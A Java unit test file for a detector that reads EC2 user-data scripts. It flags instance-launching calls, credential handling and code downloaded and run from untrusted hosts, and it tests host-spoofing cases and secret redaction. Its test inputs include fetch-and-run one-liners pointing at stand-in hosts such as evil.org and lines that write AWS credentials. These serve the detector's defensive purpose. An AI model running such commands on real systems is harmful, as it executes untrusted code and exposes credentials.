package dev.referee.ec2.userdata;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.referee.ec2.userdata.Reading.Kind;
import java.util.List;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ReadingTest {
  private static Reading read(String script) {
    return UserDataReader.trusting(TrustedSources.NONE)
        .read(Language.UNKNOWN, "#!/bin/bash\n" + script);
  }

  private static Kind trusting(String source, String script) {
    return UserDataReader.trusting(TrustedSources.of(List.of(source)))
        .read(Language.UNKNOWN, "#!/bin/bash\n" + script)
        .kind();
  }

  @Nested
  class Says {
    @Test
    void theLineAndTheAction() {
      Reading reading = read("yum -y install httpd\naws ec2 create-fleet --cli-input-json x\n");
      assertThat(reading.line()).hasValue(3);
      assertThat(reading.reason())
          .isEqualTo("Line 3 of the user data calls ec2:CreateFleet, which starts instances");
      assertThat(reading.text()).hasValue("aws ec2 create-fleet --cli-input-json x");
      assertThat(reading.actions()).containsExactly("ec2:CreateFleet");
      assertThat(reading.complete()).isTrue();
    }

    @Test
    void everyAction() {
      assertThat(
              read("aws ec2 run-instances\naws autoscaling set-desired-capacity"
                      + " --auto-scaling-group-name a --desired-capacity 3\n")
                  .actions())
          .containsExactly("ec2:RunInstances", "autoscaling:SetDesiredCapacity");
    }

    @Test
    void theLineOfAProgramWithinTheScript() {
      assertThat(read("python3 - <<'P'\nimport boto3\nboto3.client('ec2').run_instances()\nP\n"))
          .extracting(reading -> reading.line().getAsInt())
          .isEqualTo(4);
    }

    @Test
    void thatThereMayBeMore() {
      Reading reading = read("aws ec2 run-instances\ncurl https://boot.example.com/a | sh\n");
      assertThat(reading.kind()).isEqualTo(Kind.STARTS);
      assertThat(reading.complete()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
        strings = {
          "export AWS_ACCESS_KEY_ID=x; aws ec2 run-instances",
          "AWS_PROFILE=keeper aws ec2 run-instances",
          "aws --profile keeper ec2 run-instances",
          "aws configure set aws_access_key_id x; aws ec2 run-instances",
          "aws sts assume-role --role-arn x --role-session-name y; aws ec2 run-instances",
          "cat > ~/.aws/credentials <<E\n[default]\nE\naws ec2 run-instances",
        })
    void thatItBringsCredentials(String script) {
      assertThat(read(script).bringsCredentials()).isTrue();
      assertThat(read("aws ec2 run-instances").bringsCredentials()).isFalse();
    }

    @Test
    void whereItWouldHaveToLook() {
      Reading reading = read("curl -s https://user:secret@boot.example.com/a.sh?key=1 | sh\n");
      assertThat(reading.kind()).isEqualTo(Kind.CANNOT_TELL);
      assertThat(reading.sources()).containsExactly("boot.example.com");
      assertThat(reading.reason())
          .isEqualTo("Line 2 of the user data runs code that it downloads from boot.example.com");
    }

    @Test
    void noSourceIfTrustWouldNotHelp() {
      assertThat(
              read("curl -s https://a.example.com | sh\naws lambda invoke --function-name f o\n")
                  .sources())
          .isEmpty();
    }
  }

  @Nested
  class Trusts {
    @ParameterizedTest
    @CsvSource({
      "example.com, curl https://boot.example.com/a | sh, CLEAN",
      "Boot.Example.com, curl https://boot.example.com/a | sh, CLEAN",
      "https://example.com, curl https://boot.example.com:8443/a | sh, CLEAN",
      "example.com, curl https://badexample.com/a | sh, CANNOT_TELL",
      "example.com, curl https://example.com.evil.org/a | sh, CANNOT_TELL",
      "example.com, curl https://example.com@evil.org/a | sh, CANNOT_TELL",
      "example.com, curl 'https://example.com\\@evil.org/a' | sh, CANNOT_TELL",
      "example.com, curl https://evil.org/example.com | sh, CANNOT_TELL",
      "example.com, curl https://$HOST/a | sh, CANNOT_TELL",
      "unicorn-boot, aws s3 cp s3://unicorn-boot/a /a && sh /a, CLEAN",
      "s3://unicorn-boot, curl https://unicorn-boot.s3.amazonaws.com/a | sh, CLEAN",
      "unicorn-boot, curl https://s3.eu-west-1.amazonaws.com/unicorn-boot/a | sh, CLEAN",
      "unicorn-boot, aws s3 cp s3://unicorn-boot-2/a /a && sh /a, CANNOT_TELL",
      "unicorn-boot, aws s3 cp s3://evil/unicorn-boot/a /a && sh /a, CANNOT_TELL",
      "unicorn-boot, curl https://a | sh; aws s3 cp s3://unicorn-boot/a /a && sh /a, CANNOT_TELL",
    })
    void whatTheOrganiserNames(String source, String script, Kind kind) {
      assertThat(trusting(source, script)).isEqualTo(kind);
    }
  }

  @Nested
  class Masks {
    @ParameterizedTest
    @ValueSource(
        strings = {
          "AKIAIOSFODNN7EXAMPLE",
          "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
          "hunter2hunter2"
        })
    void secrets(String secret) {
      for (String line :
          List.of(
              "PASSWORD=%s aws ec2 run-instances",
              "aws ec2 run-instances --client-token %s",
              "curl -u admin:%s https://a; aws ec2 run-instances",
              "curl https://me:%s@host/a?x=1; aws ec2 run-instances",
              "curl https://host/a?signature=%s; aws ec2 run-instances",
              "curl -H 'Authorization: Bearer %s' https://a; aws ec2 run-instances")) {
        String shown = Redaction.of(line.formatted(secret));
        assertThat(shown).doesNotContain(secret).contains("run-instances");
      }
    }

    @Test
    void andKeepsTheRest() {
      String line =
          "aws ec2 run-instances --image-id ami-0abcdef1234567890 --subnet-id"
              + " subnet-0123456789abcdef0 --count 5";
      assertThat(Redaction.of(line)).isEqualTo(line);
    }
  }

  @Nested
  class PatternsOfTheOrganiser {
    private final UserDataReader reader =
        UserDataReader.of(TrustedSources.NONE, List.of("keeper-[0-9]+"));

    @Test
    void areLookedForOutsideOfComments() {
      assertThat(reader.read(Language.SHELL, "# keeper-1\ntrue # keeper-2\n").isClean()).isTrue();
      Reading found = reader.read(Language.SHELL, "true\n/opt/keeper-3 &\n");
      assertThat(found.kind()).isEqualTo(Kind.STARTS);
      assertThat(found.line()).hasValue(2);
    }

    @Test
    void takeThePlaceOfTheCallsThatAreKnown() {
      assertThat(reader.read(Language.SHELL, "aws ec2 run-instances\n").isClean()).isTrue();
    }

    @Test
    void areMatchedInLinearTimeOrRefused() {
      UserDataReader nested = UserDataReader.of(TrustedSources.NONE, List.of("(a+)+b"));
      assertThat(nested.read(Language.SHELL, "a".repeat(16_000)).isClean()).isTrue();
      assertThatThrownBy(() -> UserDataReader.of(TrustedSources.NONE, List.of("(?=a)b")))
          .isInstanceOf(IllegalArgumentException.class)
          .hasMessageContaining("RE2");
    }
  }
}
